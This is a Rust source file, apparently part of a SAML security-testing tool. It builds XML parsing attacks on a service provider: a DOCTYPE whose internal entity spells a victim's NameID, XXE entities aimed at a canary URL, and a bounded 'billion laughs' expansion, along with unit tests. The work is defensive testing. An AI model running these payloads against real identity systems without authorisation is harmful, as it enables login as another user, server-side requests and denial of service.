//! XML parsing attacks: a DOCTYPE the SP's parser should refuse outright. SAML never needs
//! a DTD, so an SP that processes one (internal entities, external entities, nested
//! expansion) is exposed whatever else it checks.
//!
//! The body is always the victim's Response genuinely signed by the IdP; the payload is
//! spliced in after serialization in place of a random marker, since our tree (rightly) has
//! no notion of entity references.

use super::kit::{
    assertion_mut, forged, genuine, name_id_mut, set_text, signed_mode, spec_for, victim,
};
use super::{Attack, AttackError, Forged, Scenario};
use crate::saml::response::new_id;
use crate::saml::xml::Document;

/// SAML attribute whose value is the external general entity.
pub(super) const XXE_ATTRIBUTE: &str = "oinspect-xxe";
/// SAML attribute whose value is the expanding entity.
pub(super) const EXPANSION_ATTRIBUTE: &str = "oinspect-entity-expansion";
/// The innermost entity's text (10 bytes).
const EXPANSION_SEED: &str = "oinspect!!";
/// References per entity level.
const EXPANSION_FANOUT: usize = 10;
/// Levels above the seed: 10 bytes × 10^5 = 1,000,000 bytes when fully expanded, which
/// shows an expanding parser without hurting the SP (billion laughs goes to gigabytes).
const EXPANSION_LEVELS: u32 = 5;
/// What the full expansion of the referenced entity amounts to.
pub(super) const EXPANDED_BYTES: usize =
    EXPANSION_SEED.len() * EXPANSION_FANOUT.pow(EXPANSION_LEVELS);
// Never more than a megabyte, whatever the constants above are changed to.
const _: () = assert!(EXPANDED_BYTES <= 1 << 20);

pub(super) fn forge(attack: Attack, s: &Scenario<'_>) -> Result<Forged, AttackError> {
    match attack {
        Attack::Dtd => dtd(s),
        Attack::Xxe => xxe(s),
        Attack::EntityExpansion => entity_expansion(s),
        other => Err(AttackError::Unsupported(format!(
            "{other} is not an XML parsing attack"
        ))),
    }
}

/// Text no document contains by chance: replaced by an entity reference after
/// serialization.
fn marker() -> String {
    format!("OINSPECTENTITY{}", new_id().trim_start_matches('_'))
}

/// The document with `<!DOCTYPE root [subset]>` after the XML declaration and `reference`
/// in place of `marker`.
fn with_doctype(doc: &Document, subset: &str, marker: &str, reference: &str) -> String {
    let body = doc.root.to_xml().replace(marker, reference);
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE {} [{subset}]>\n{body}",
        doc.root.name.qualified()
    )
}

/// `value` as an entity value literal between double quotes. Character references in an
/// entity value are expanded once when it is declared and the result is parsed again where
/// the entity is referenced, so `&` and `<` need a doubly escaped `&#38;#…;`; `%` would
/// start a parameter entity reference and `"` would end the literal.
fn entity_value(value: &str) -> String {
    let mut out = String::with_capacity(value.len());
    for c in value.chars() {
        match c {
            '&' => out.push_str("&#38;#38;"),
            '<' => out.push_str("&#38;#60;"),
            '%' => out.push_str("&#37;"),
            '"' => out.push_str("&#34;"),
            '\r' => out.push_str("&#13;"),
            c => out.push(c),
        }
    }
    out
}

/// The victim's genuine, correctly signed Response whose NameID text is spelled by an
/// internal entity: an SP that expands entities verifies the signature over the expanded
/// text and logs the victim in; it should have refused the DOCTYPE.
fn dtd(s: &Scenario<'_>) -> Result<Forged, AttackError> {
    let spec = spec_for(s, victim(s));
    let mut doc = genuine(s, &spec, signed_mode(s.base.sign))?;
    let mark = marker();
    set_text(name_id_mut(assertion_mut(&mut doc)?)?, &mark);
    let subset = format!("<!ENTITY nameid \"{}\">", entity_value(victim(s)));
    Ok(forged(
        with_doctype(&doc, &subset, &mark, "&nameid;"),
        s,
        None,
        "the victim's genuinely signed Response with a DOCTYPE whose internal entity &nameid; spells the NameID".into(),
    ))
}

/// `url` as a SystemLiteral, in whichever quotes it does not contain.
fn system_literal(url: &str) -> Result<String, AttackError> {
    if !url.contains('"') {
        Ok(format!("\"{url}\""))
    } else if !url.contains('\'') {
        Ok(format!("'{url}'"))
    } else {
        Err(AttackError::Unsupported(format!(
            "the canary URL {url:?} contains both kinds of quotes"
        )))
    }
}

/// The victim's genuinely signed Response with an extra attribute (added before signing,
/// so the document looks like any other) whose value is a reference to an external general
/// entity `<canary>/general`, and an external parameter entity `<canary>/parameter`
/// referenced in the DTD. A fetch of either canary URL is the finding; the signature no
/// longer matches whatever the entity expands to.
fn xxe(s: &Scenario<'_>) -> Result<Forged, AttackError> {
    let canary = s.canary_url.as_deref().ok_or_else(|| {
        AttackError::Unsupported("xxe needs a canary URL to point the external entities at".into())
    })?;
    let canary = canary.trim_end_matches('/');
    let general = system_literal(&format!("{canary}/general"))?;
    let parameter = system_literal(&format!("{canary}/parameter"))?;
    let mark = marker();
    let doc = signed_with_attribute(s, XXE_ATTRIBUTE, &mark)?;
    // The general entity first: a parser that fails on the parameter entity's content has
    // then still seen both declarations.
    let subset = format!("<!ENTITY xxe SYSTEM {general}><!ENTITY % p SYSTEM {parameter}>%p;");
    Ok(forged(
        with_doctype(&doc, &subset, &mark, "&xxe;"),
        s,
        None,
        format!(
            "the victim's signed Response with a DOCTYPE: external general entity &xxe; ({canary}/general) as the value of attribute {XXE_ATTRIBUTE}, external parameter entity %p; ({canary}/parameter)"
        ),
    ))
}

/// The victim's genuinely signed Response with one more attribute, `name` = `value`.
fn signed_with_attribute(
    s: &Scenario<'_>,
    name: &str,
    value: &str,
) -> Result<Document, AttackError> {
    let mut spec = spec_for(s, victim(s));
    spec.attributes
        .push((name.to_string(), vec![value.to_string()]));
    genuine(s, &spec, signed_mode(s.base.sign))
}

/// The internal subset of the bounded "billion laughs": `e0` is the seed, each `eN` is ten
/// `e(N-1)`, and the top one expands to [`EXPANDED_BYTES`].
fn expansion_subset() -> String {
    let mut subset = format!("<!ENTITY e0 \"{EXPANSION_SEED}\">");
    for level in 1..=EXPANSION_LEVELS {
        let inner = format!("&e{};", level - 1).repeat(EXPANSION_FANOUT);
        subset.push_str(&format!("<!ENTITY e{level} \"{inner}\">"));
    }
    subset
}

/// Nested internal entities expanding to about 1 MB as the value of one extra attribute.
/// The IdP signs the expanded value, so an SP whose parser expands entities verifies the
/// signature and logs the victim in: the expansion is observable, not just attempted.
fn entity_expansion(s: &Scenario<'_>) -> Result<Forged, AttackError> {
    let expanded = EXPANSION_SEED.repeat(EXPANSION_FANOUT.pow(EXPANSION_LEVELS));
    let doc = signed_with_attribute(s, EXPANSION_ATTRIBUTE, &expanded)?;
    let reference = format!("&e{EXPANSION_LEVELS};");
    Ok(forged(
        with_doctype(&doc, &expansion_subset(), &expanded, &reference),
        s,
        None,
        format!(
            "the victim's signed Response with {EXPANSION_LEVELS} levels of nested internal entities ({EXPANSION_FANOUT} references each) expanding to {EXPANDED_BYTES} bytes in attribute {EXPANSION_ATTRIBUTE}"
        ),
    ))
}

#[cfg(test)]
mod tests {
    use std::collections::HashMap;

    use super::super::kit::testing::*;
    use super::*;
    use crate::saml::dsig::{self, signature_paths};
    use crate::saml::response::SignMode;

    /// The document after the DOCTYPE, with `reference` replaced by `with`.
    fn body(xml: &str, reference: &str, with: &str) -> Document {
        let end = xml.find("]>\n").expect("end of the DOCTYPE") + 3;
        assert!(
            xml.starts_with(
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE samlp:Response ["
            )
        );
        parse(&xml[end..].replace(reference, with))
    }

    #[test]
    fn dtd_expands_to_the_signed_victim() {
        for mode in [SignMode::Assertion, SignMode::Both] {
            let s = scenario(mode);
            let f = forge(Attack::Dtd, &s).unwrap();
            assert_eq!((f.claimed.as_str(), f.genuine.as_deref()), (VICTIM, None));
            assert!(f.xml.contains(&format!("<!ENTITY nameid \"{VICTIM}\">")));
            assert!(f.xml.contains(">&nameid;</saml:NameID>"));
            // Our parser refuses it, as every SP should.
            assert!(Document::parse(&f.xml).is_err());
            // Expanded, every signature verifies and the NameID is the victim.
            let doc = body(&f.xml, "&nameid;", VICTIM);
            let n = dsig::verify(&doc, std::slice::from_ref(&s.idp.cert))
                .unwrap()
                .len();
            assert_eq!(n, signature_paths(&doc).len());
            assert_eq!(name_id(&doc, &consumed(&doc)), VICTIM);
            // An independent DTD-processing parser reads the victim.
            let opts = roxmltree::ParsingOptions {
                allow_dtd: true,
                ..Default::default()
            };
            let rx = roxmltree::Document::parse_with_options(&f.xml, opts).unwrap();
            let nid = rx.descendants().find(|n| n.has_tag_name("NameID")).unwrap();
            assert_eq!(nid.text(), Some(VICTIM));
        }
    }

    /// XML 1.0 §4.5: character references in an entity value are replaced when it is
    /// declared; the result is parsed as content where the entity is referenced. (roxmltree
    /// skips the second step; expat and libxml2 do both, as here.)
    fn replacement_then_content(value: &str) -> String {
        let mut replacement = String::new();
        let mut rest = value;
        while let Some(i) = rest.find("&#") {
            replacement.push_str(&rest[..i]);
            let end = rest[i..].find(';').unwrap() + i;
            let code: u32 = rest[i + 2..end].parse().unwrap();
            replacement.push(char::from_u32(code).unwrap());
            rest = &rest[end + 1..];
        }
        replacement.push_str(rest);
        parse(&format!("<r>{replacement}</r>")).root.text()
    }

    #[test]
    fn dtd_entity_value_survives_markup_characters() {
        let tricky = "a&b<c>%d\"e'f@x.test";
        assert_eq!(replacement_then_content(&entity_value(tricky)), tricky);
        let mut s = scenario(SignMode::Assertion);
        s.base.name_id = tricky.into();
        let f = forge(Attack::Dtd, &s).unwrap();
        assert!(
            f.xml
                .contains(&format!("<!ENTITY nameid \"{}\">", entity_value(tricky)))
        );
    }

    #[test]
    fn xxe_points_both_entities_at_the_canary() {
        let s = scenario(SignMode::Assertion);
        let f = forge(Attack::Xxe, &s).unwrap();
        assert_eq!(f.claimed, VICTIM);
        let canary = "http://127.0.0.1:9/canary/t1";
        assert!(
            f.xml
                .contains(&format!("<!ENTITY xxe SYSTEM \"{canary}/general\">"))
        );
        assert!(
            f.xml
                .contains(&format!("<!ENTITY % p SYSTEM \"{canary}/parameter\">%p;]>"))
        );
        assert_eq!(f.xml.matches("&xxe;").count(), 1);
        let doc = body(&f.xml, "&xxe;", "");
        assert_eq!(name_id(&doc, &consumed(&doc)), VICTIM);
        assert!(f.xml.contains(&format!("Name=\"{XXE_ATTRIBUTE}\"")));

        // A trailing slash is not doubled; quotes pick the other delimiter.
        let mut s2 = scenario(SignMode::Assertion);
        s2.canary_url = Some("http://127.0.0.1:9/c\"x/".into());
        let f = forge(Attack::Xxe, &s2).unwrap();
        assert!(f.xml.contains("SYSTEM 'http://127.0.0.1:9/c\"x/general'"));
        s2.canary_url = Some("http://127.0.0.1:9/'\"".into());
        assert!(matches!(
            forge(Attack::Xxe, &s2),
            Err(AttackError::Unsupported(_))
        ));
        s2.canary_url = None;
        assert!(matches!(
            forge(Attack::Xxe, &s2),
            Err(AttackError::Unsupported(_))
        ));
    }

    /// Expanded length of every entity in an internal subset of `<!ENTITY n "v">`
    /// declarations (values made only of text and `&name;` references).
    fn expanded_lengths(subset: &str) -> HashMap<String, usize> {
        let mut lens = HashMap::new();
        for decl in subset.split("<!ENTITY ").skip(1) {
            let (name, rest) = decl.split_once(" \"").unwrap();
            let value = rest.split_once("\">").unwrap().0;
            let mut len = 0;
            let mut rest = value;
            while let Some(i) = rest.find('&') {
                len += i;
                let end = rest[i..].find(';').unwrap() + i;
                len += lens[&rest[i + 1..end]];
                rest = &rest[end + 1..];
            }
            len += rest.len();
            lens.insert(name.to_string(), len);
        }
        lens
    }

    #[test]
    fn entity_expansion_is_bounded_to_about_a_megabyte() {
        let s = scenario(SignMode::Assertion);
        let f = forge(Attack::EntityExpansion, &s).unwrap();
        assert_eq!(f.claimed, VICTIM);
        let subset = expansion_subset();
        assert!(f.xml.contains(&subset));
        let lens = expanded_lengths(&subset);
        assert_eq!(lens["e5"], EXPANDED_BYTES);
        assert_eq!(EXPANDED_BYTES, 1_000_000);
        assert!(f.xml.contains(">&e5;</saml:AttributeValue>"));
        // Small on the wire.
        assert!(f.xml.len() < 20_000);
        let doc = body(&f.xml, "&e5;", "");
        assert_eq!(name_id(&doc, &consumed(&doc)), VICTIM);
    }

    #[test]
    fn other_attacks_are_refused() {
        let s = scenario(SignMode::Assertion);
        assert!(matches!(
            forge(Attack::Unsigned, &s),
            Err(AttackError::Unsupported(_))
        ));
    }
}
